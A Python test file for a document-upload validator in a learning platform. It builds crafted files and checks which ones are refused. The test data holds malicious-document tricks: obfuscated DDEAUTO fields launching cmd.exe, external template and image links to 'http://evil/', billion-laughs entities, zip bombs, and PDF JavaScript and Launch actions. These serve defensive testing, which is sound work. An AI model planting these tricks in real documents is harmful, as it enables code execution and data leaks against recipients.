"""What the reader of files says of each kind, and of each trick. Run here, in the thread of the test: the limits have
their own tests in test_examination.py."""

import io
import struct
import zipfile
from pathlib import Path

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from lms.core.files import reader
from lms.core.files.kinds import KINDS, RefusedError, ending_of
from tests.library.help import PDF, RELATIONS, office, open_document, pdf, zipped

SHARED = Path("/", "work", "shared", "data")
REAL = {  # what becomes of each real file: nothing = accepted
    "uploads/attachment.pdf": "hidden_file",
    "uploads/crazyones.pdf": "",
    "uploads/embedded-simple-2007.docx": "object",
    "uploads/encrypted.docx": "old_office",
    "uploads/excel4_sample_macro.xlsm": "unknown_kind",
    "uploads/harmless-clean.docm": "unknown_kind",
    "uploads/issue-297.pdf": "active",
    "uploads/libreoffice-form.pdf": "",
    "uploads/libreoffice-writer-password.pdf": "password",
    "uploads/nasty.odt": "entities",
    "uploads/oleform-PR314.docm": "unknown_kind",
    "uploads/r6-both-passwords.pdf": "password",
    "uploads/sample.doc": "unknown_kind",
    "uploads/sample.docx": "",
    "uploads/sample.odp": "",
    "uploads/sample.ods": "",
    "uploads/sample.odt": "",
    "uploads/sample.pptx": "",
    "uploads/sample.xlsx": "",
    "uploads/sample_with_external_link_to_doc.docx": "remote_part",
    "uploads/test.svg": "unknown_kind",
    "documents/cgu-legifrance-api.pdf": "",
    "documents/conditions-generales-d-utilisation-de-l-api.docx": "",
    "documents/description-des-tris-et-filtres-de-l-api.xlsx": "",
    "documents/exemples-d-utilisation-de-l-api.docx": "",
    "documents/lexique-api-lgf.docx": "",
}  # fmt: skip
RENAMED = {
    "uploads/excel4_sample_macro.xlsm": "xlsx",
    "uploads/harmless-clean.docm": "docx",
    "uploads/oleform-PR314.docm": "docx",
}
VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "VBA".encode("utf-16-le") + b"\0" * 500


def verdict(content, ending):
    """The code of the refusal, nothing where the file is taken."""
    try:
        reader.examine(content, ending)
    except RefusedError as refusal:
        return refusal.code
    return ""


def picture(kind, **how):
    content = io.BytesIO()
    Image.new("RGB", (4, 2), "red").save(content, kind, **how)
    return content.getvalue()


def relation(attributes):
    return f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r9" {attributes}/></Relationships>'


@pytest.mark.skipif(not SHARED.exists(), reason="needs the shared data of the project")
@pytest.mark.parametrize("name", REAL)
def test_c16_real_files_get_the_verdict_of_the_table(name):
    assert verdict((SHARED / name).read_bytes(), ending_of(name)) == REAL[name]


@pytest.mark.skipif(not SHARED.exists(), reason="needs the shared data of the project")
@pytest.mark.parametrize("name", RENAMED)
def test_c14_real_macros_under_another_name_are_found(name):
    assert verdict((SHARED / name).read_bytes(), RENAMED[name]) == "macros"


@pytest.mark.skipif(not SHARED.exists(), reason="needs the shared data of the project")
def test_c16_table_names_every_real_file():
    there = {
        f"{folder}/{each.name}"
        for folder in ("uploads", "documents")
        for each in (SHARED / folder).iterdir()
        if each.is_file()
    }
    assert there == set(REAL)


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(inside, part="word/document.xml", root="document"):
    """A .docx with these words in one of its parts."""
    return office(**{part: f'<w:{root} xmlns:w="{W}"><w:p>{inside}</w:p></w:{root}>'})


def field(*pieces, tag="instrText"):
    """A field of Word: each piece in a run of its own, as it is written after every correction; nested where it is one."""
    runs = "".join(
        piece if piece.startswith("<") else f"<w:r><w:{tag}>{piece}</w:{tag}></w:r>" for piece in pieces
    )
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return f"{marks[0]}{runs}{marks[1]}<w:r><w:t>!</w:t></w:r>{marks[2]}"


def table(link):
    """A table with a link to elsewhere, which no relationship names."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return office(
        "xl/workbook.xml",
        **{"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{main}">{link}</externalLink>'},
    )


COMMAND = r'c:\\windows\\system32\\cmd.exe "/k calc"'
SIMPLE = f"<w:fldSimple w:instr=' DDEAUTO {COMMAND.replace(chr(34), '&quot;')}'><w:r/></w:fldSimple>"


GOOD = {
    "pdf": (PDF, "pdf"),
    "pdf after a mark of order": (b"\xef\xbb\xbf" + PDF, "pdf"),
    "pdf after blank lines": (b"\r\n\r\n  " + PDF, "pdf"),
    "pdf after words of a mail server": (b"X-Scanned: yes\r\n" * 20 + PDF, "pdf"),
    "pdf with a link and an opening page": (pdf("/OpenAction[3 0 R/Fit]", "<</A<</S/URI/URI(https://x.fr)>>>>"), "pdf"),
    "png": (picture("PNG"), "png"),
    "jpeg": (picture("JPEG"), "jpg"),
    "gif": (picture("GIF"), "gif"),
    "webp": (picture("WEBP"), "webp"),
    "docx": (office(), "docx"),
    "docx whose types are in utf-16": (office(**{"word/settings.xml": '<?xml version="1.0" encoding="utf-16"?><w/>'.encode("utf-16")}), "docx"),
    "docx with a link": (office(**{"word/_rels/document.xml.rels": relation('Type="http://x/hyperlink" Target="https://x.fr" TargetMode="External"')}), "docx"),
    "docx with the workbook of a chart": (office(**{"word/embeddings/a.xlsx": office("xl/workbook.xml")}), "docx"),
    "docx that speaks of DDE": (word("<w:r><w:t>DDEAUTO c: cmd</w:t></w:r>" + field(' HYPERLINK "https://x.fr/dde" ', "DDE") + field(" LISTNUM LegalDefault ")), "docx"),
    "docx with a field in a field": (word(field(" IF", field(" PAGE "), "= 1 ") + field("=", field("PAGE"), "+1") + field(" DATE ") + field("D ", field("x"))), "docx"),
    "xlsx": (office("xl/workbook.xml"), "xlsx"),
    "xlsx with a table kept of another": (table("<externalBook><sheetNames/></externalBook>"), "xlsx"),
    "pptx": (office("ppt/presentation.xml"), "pptx"),
    "odt": (open_document("text"), "odt"),
    "ods": (open_document("spreadsheet"), "ods"),
    "odt with a link": (open_document(**{"content.xml": '<c xmlns:x="http://www.w3.org/1999/xlink"><a x:href="https://x.fr"/></c>'}), "odt"),
    "odt with an empty toolbar": (open_document(**{"Configurations2/accelerator/current.xml": ""}), "odt"),
    "table": ("nom;âge\n".encode(), "csv"),
    "table of Excel in France": ("nom;âge;prix €\n".encode("cp1252"), "csv"),
    "table with the words of a page": (b"balise;sens\n<body>;le corps\n<script>;un programme\n", "csv"),
    "table that begins like a bitmap": (b"BM;valeur\n1;2\n", "csv"),
    "table that begins like a program": (b"MZ;valeur\n1;2\n", "csv"),
    "text": (b"du texte", "txt"),
    "text in utf-16": ("du texte é\r\n".encode("utf-16"), "txt"),
    "text in utf-16, other end first": (b"\xfe\xff" + "é".encode("utf-16-be"), "txt"),
    "text with a mark": (b"\xef\xbb\xbfdu texte", "txt"),
}  # fmt: skip


@pytest.mark.parametrize("case", GOOD)
def test_c16_good_file_is_taken(case):
    assert verdict(*GOOD[case]) == ""


def liar():
    """An archive that declares a small size for 150 MB of zeros."""
    content = bytearray(office(**{"word/media/a.bin": b"\0" * 150_000_000}))
    return bytes(content.replace(struct.pack("<I", 150_000_000), struct.pack("<I", 10)))


def twice():
    """Two tables of types: each program reads another."""
    pack = io.BytesIO(office())
    with zipfile.ZipFile(pack, "a") as archive:
        archive.writestr("[CONTENT_TYPES].XML", "<Types/>")
    return pack.getvalue()


EXTERNAL = "Type='http://x/attachedTemplate' Target='http://evil/' TargetMode"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
BAD = {
    # What the filter by regular expression let through.
    "single quotes": (office(**{"word/_rels/s.xml.rels": relation(f"{EXTERNAL}='External'")}), "docx", "remote_part"),
    "blanks around the sign": (office(**{"word/_rels/s.xml.rels": relation(f"{EXTERNAL} \n = \t 'External'")}), "docx", "remote_part"),
    "blanks in the value": (office(**{"word/_rels/s.xml.rels": relation(f"{EXTERNAL}=' external '")}), "docx", "remote_part"),
    "utf-16": (office(**{"word/_rels/s.xml.rels": ('<?xml version="1.0" encoding="utf-16"?>' + relation(f"{EXTERNAL}='External'")).encode("utf-16")}), "docx", "remote_part"),
    "character references": (office(**{"word/_rels/s.xml.rels": relation("Type='http://x/attachedTem&#112;late' Target='http://evil/' TargetMode='&#69;xternal'")}), "docx", "remote_part"),
    "entities": (office(**{"word/_rels/s.xml.rels": "<!DOCTYPE r [<!ENTITY e 'External'>]>" + relation(f"{EXTERNAL}='&e;'")}), "docx", "entities"),
    "prefix": (office(**{"word/_rels/s.xml.rels": f"<p:Relationships xmlns:p='{RELATIONS}'><p:Relationship Id='a' {EXTERNAL}='External'/></p:Relationships>"}), "docx", "remote_part"),
    "attributes with a prefix": (office(**{"word/_rels/s.xml.rels": f"<p:R xmlns:p='{RELATIONS}'><p:Relationship p:Type='http://x/frame' p:Target='http://evil/' p:TargetMode='External'/></p:R>"}), "docx", "remote_part"),
    "ending in capitals": (office(**{"word/_rels/S.XML.RELS": relation(f"{EXTERNAL}='External'")}), "docx", "remote_part"),
    "ending with a sign in its place": (office(**{"word/%5Frels/s.xml.rel%73": relation(f"{EXTERNAL}='External'")}), "docx", "remote_part"),
    "address without the mode": (office(**{"word/_rels/s.xml.rels": relation("Type='http://x/image' Target='\\\\evil\\share'")}), "docx", "remote_part"),
    "picture fetched from elsewhere": (office(**{"word/_rels/s.xml.rels": relation("Type='http://x/image' Target='http://evil/a.png' TargetMode='External'")}), "docx", "remote_part"),
    "link that runs": (office(**{"word/_rels/s.xml.rels": relation("Type='http://x/hyperlink' Target='javascript:x()' TargetMode='External'")}), "docx", "remote_part"),
    "macro part renamed": (office(**{"word/media/image1.png": VBA}), "docx", "macros"),
    "macro part by its relation": (office(**{"word/_rels/document.xml.rels": relation("Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='a.png'")}), "docx", "macros"),
    "macro type": (office(types=f'<Override PartName="/a" ContentType="{MACRO}"/>'), "docx", "macros"),
    "macro type in single quotes and capitals": (office(types=f"<Override PartName = '/a' ContentType = ' {MACRO.upper()} '/>"), "docx", "macros"),
    "macro type with references": (office(types="<Override PartName='/a' ContentType='application/vnd.ms-office.vba&#80;roject'/>"), "docx", "macros"),
    "macro type in utf-16": (office(**{"[Content_Types].xml": f'<?xml version="1.0" encoding="utf-16"?><Types><Override PartName="/a" ContentType="{MACRO}"/></Types>'.encode("utf-16")}), "docx", "macros"),
    "macro sheet": (office("xl/workbook.xml", types='<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'), "xlsx", "macros"),
    "packed object": (office(**{"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600}), "docx", "object"),
    "program": (office(**{"word/media/a.png": b"MZ\x90\0" + b"\0" * 100}), "docx", "object"),
    "two tables of types": (twice(), "docx", "damaged"),
    "document type in the text": (office(**{"word/document.xml": LAUGHS}), "docx", "entities"),
    "document type in utf-16": (office(**{"word/document.xml": ('<?xml version="1.0" encoding="utf-16"?>' + LAUGHS).encode("utf-16")}), "docx", "entities"),
    "document type in a part without ending": (office(**{"word/a": '<?xml version="1.0"?>' + LAUGHS}), "docx", "entities"),
    "xlsx as docx": (office("xl/workbook.xml"), "docx", "not_what_it_says"),
    "zip as docx": (zipped(a="x"), "docx", "not_what_it_says"),
    "archive in a docx": (office(a=zipped(b="X5O!P%@AP[4\\PZX54(P^)7CC)7}")), "docx", "hidden_file"),
    "dde in one run": (word(field(f" DDEAUTO {COMMAND} ")), "docx", "remote_part"),
    "dde in pieces": (word(field(" D", "DE", "AU", f"TO {COMMAND}")), "docx", "remote_part"),
    "dde in small letters": (word(field(f"ddE {COMMAND}")), "docx", "remote_part"),
    "dde with signs": (word(field("&#68;&#x44;E ", COMMAND)), "docx", "remote_part"),
    "dde as a simple field": (word(SIMPLE), "docx", "remote_part"),
    "dde in plain text of the field": (word(field(f"DDE {COMMAND}", tag="t")), "docx", "remote_part"),
    "dde that was struck out": (word(field(f"DDE {COMMAND}", tag="delInstrText")), "docx", "remote_part"),
    "dde without its end": (word('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:r>'), "docx", "remote_part"),
    "dde inside another field": (word(field("IF 1 = 1 ", field(f"DDE {COMMAND}"))), "docx", "remote_part"),
    "dde whose name another field makes": (word(field(field("QUOTE 68 68 69"), f" {COMMAND}")), "docx", "remote_part"),
    "dde whose name another field ends": (word(field("D", field("QUOTE 68 69"), f" {COMMAND}")), "docx", "remote_part"),
    "dde in a header": (word(field(f"DDE {COMMAND}"), "word/header1.xml", "hdr"), "docx", "remote_part"),
    "dde in a part without ending": (word(field(f"DDE {COMMAND}"), "word/a", "ftr"), "docx", "remote_part"),
    "dde in utf-16": (office(**{"word/a.xml": f'<?xml version="1.0" encoding="utf-16"?><w:hdr xmlns:w="{W}">{SIMPLE}</w:hdr>'.encode("utf-16")}), "docx", "remote_part"),
    "text from elsewhere": (word(field(' INCLUDETEXT "http://evil/a.docx" ')), "docx", "remote_part"),
    "dde of a table": (table('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "xlsx", "remote_part"),
    "dde of a table in a document": (office(**{"word/embeddings/a.xlsx": table("<p:ddeLink xmlns:p='x'/>")}), "docx", "remote_part"),
    "document type in a part that nothing names": (office(**{"word/a": LAUGHS}), "docx", "entities"),
    "document inserted as it opens": (office(**{"word/_rels/document.xml.rels": relation("Type='http://x/aFChunk' Target='a.rtf'")}), "docx", "hidden_file"),
    "three deep": (office(a=office(a=office())), "docx", "hidden_file"),
    "bomb": (office(**{"word/a": b"\0" * 110_000_000}), "docx", "bomb"),
    "bomb that lies": (liar(), "docx", "damaged"),
    "many members": (zipped(**{str(n): "" for n in range(3500)}), "docx", "bomb"),
    "program before the archive": (b"MZ" + b"\0" * 100 + office(), "docx", "not_what_it_says"),
    "archive after an archive": (zipped(a="x") + office(), "docx", "hidden_file"),
    # Open documents.
    "odf basic": (open_document(**{"Basic/script-lc.xml": "<x/>"}), "odt", "macros"),
    "odf scripts, by the manifest": (open_document(entries="<m:file-entry m:full-path='Scripts/python/a.py' m:media-type=''/>"), "odt", "macros"),
    "odf event": (open_document(**{"content.xml": '<c><e xmlns="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/></c>'}), "odt", "macros"),
    "odf encrypted": (open_document(entries="<m:file-entry m:full-path='content.xml' m:media-type='text/xml'><m:encryption-data/></m:file-entry>"), "odt", "password"),
    "odf picture from elsewhere": (open_document(**{"content.xml": '<c xmlns:x="http://www.w3.org/1999/xlink"><image x:href="http://evil/a.png"/></c>'}), "odt", "remote_part"),
    "odf dde": (open_document(**{"content.xml": "<c><dde-source/></c>"}), "odt", "remote_part"),
    "ods as odt": (open_document("spreadsheet"), "odt", "not_what_it_says"),
    "odf without manifest": (zipped(mimetype=KINDS["odt"].main), "odt", "not_what_it_says"),
    # PDF.
    "pdf with a script": (pdf("/OpenAction 4 0 R", "<</S/JavaScript/JS(x())>>"), "pdf", "active"),
    "pdf with a script, name in signs": (pdf("", "<</S/J#61vaScript/J#53(x())>>"), "pdf", "active"),
    "pdf that starts a program": (pdf("", "<</S/Launch/F(cmd.exe)>>"), "pdf", "active"),
    "pdf with a file": (pdf("", "<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"), "pdf", "hidden_file"),
    "pdf with a dynamic form": (pdf("/AcroForm<</XFA 4 0 R>>", "<<>>"), "pdf", "active"),
    "pdf protected": (PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 3 0 R"), "pdf", "password"),
    "pdf and zip": (PDF + zipped(a="x"), "pdf", "hidden_file"),
    "zip that is a pdf": (zipped(**{"%PDF-1.4": PDF}), "docx", "hidden_file"),
    "pdf without pages": (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "pdf", "damaged"),
    "header too far": (b" " * 2000 + PDF, "pdf", "not_what_it_says"),
    "gif before the pdf": (b"GIF89a" + PDF, "pdf", "not_what_it_says"),
    "program before the pdf": (b"MZ\x90\0" + PDF, "pdf", "not_what_it_says"),
    "program as pdf": (b"MZ" + b"\0" * 100, "pdf", "not_what_it_says"),
    "docx as pdf": (office(), "pdf", "not_what_it_says"),
    "pdf as docx": (PDF, "docx", "not_what_it_says"),
    "pdf as text": (PDF, "txt", "not_what_it_says"),
    # Pictures and texts.
    "page as png": (b"<!doctype html><script>x()</script>", "png", "not_what_it_says"),
    "gif as jpg": (b"GIF89a=1;/*<script>x()</script>*/", "jpg", "not_what_it_says"),
    "jpeg cut short": (picture("JPEG")[:20] + b"<script>x()</script>", "jpg", "damaged"),
    "png and zip": (picture("PNG") + zipped(a="x"), "png", "hidden_file"),
    "binary as text": (b"a\0b", "txt", "not_what_it_says"),
    "half a letter of utf-16": (b"\xff\xfea", "txt", "not_what_it_says"),
    "lone half of a letter": (b"\xff\xfe\x00\xd8a\0", "txt", "not_what_it_says"),
    "empty": (b"", "pdf", "empty"),
    "old office": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "docx", "old_office"),
    "unknown": (b"MZ", "exe", "unknown_kind"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
def test_c14_trick_is_found(case):
    content, ending, code = BAD[case]
    assert verdict(content, ending) == code


def test_d3_picture_of_a_thousand_million_points_is_refused_unread():
    head = io.BytesIO()
    Image.new("1", (1, 1)).save(head, "PNG")
    content = bytearray(head.getvalue())
    content[16:24] = struct.pack(">II", 30_000, 30_000)
    import zlib

    content[29:33] = struct.pack(">I", zlib.crc32(bytes(content[12:29])))
    assert verdict(bytes(content), "png") == "too_many_points"


def camera(kind):
    """A picture that says where it was taken, by whom, and that it lies on its side."""
    image, out = Image.new("RGB", (4, 2), "red"), io.BytesIO()
    exif = image.getexif()
    exif[0x0112], exif[0x013B], exif[0x010E] = 6, "CANARI-auteur", "CANARI-lieu"
    exif.get_ifd(0x8825)[1] = "N"
    how = {"exif": exif, "comment": b"CANARI-mot"}
    if kind == "PNG":
        words = PngInfo()
        words.add_text("Comment", "CANARI-mot")
        words.add_itxt("XML:com.adobe.xmp", "<x>CANARI-xmp</x>")
        how |= {"pnginfo": words}
    if kind in {"WEBP", "JPEG"}:
        how |= {"xmp": b"<x>CANARI-xmp</x>"}
    image.save(out, kind, **how)
    return out.getvalue()


@pytest.mark.parametrize(
    ("kind", "ending"), [("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp"), ("GIF", "gif")]
)
def test_c15_picture_forgets_where_and_by_whom(kind, ending):
    sent = camera(kind)
    assert b"CANARI" in sent
    kept = reader.examine(sent, ending)
    assert b"CANARI" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert dict(image.getexif()) == {}
        assert (image.format, image.size) == (kind, (4, 2) if kind == "GIF" else (2, 4))


def test_c15_moving_picture_still_moves():
    frames = [Image.new("RGB", (3, 3), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(
        out, "GIF", save_all=True, append_images=frames[1:], duration=[50, 60, 70], loop=0, comment=b"CANARI"
    )
    kept = reader.examine(out.getvalue(), "gif")
    with Image.open(io.BytesIO(kept)) as image:
        assert image.n_frames == 3
    assert b"CANARI" not in kept


def test_c15_what_follows_a_picture_is_gone():
    assert b"script" not in reader.examine(picture("JPEG") + b"<script>x()</script>", "jpg")
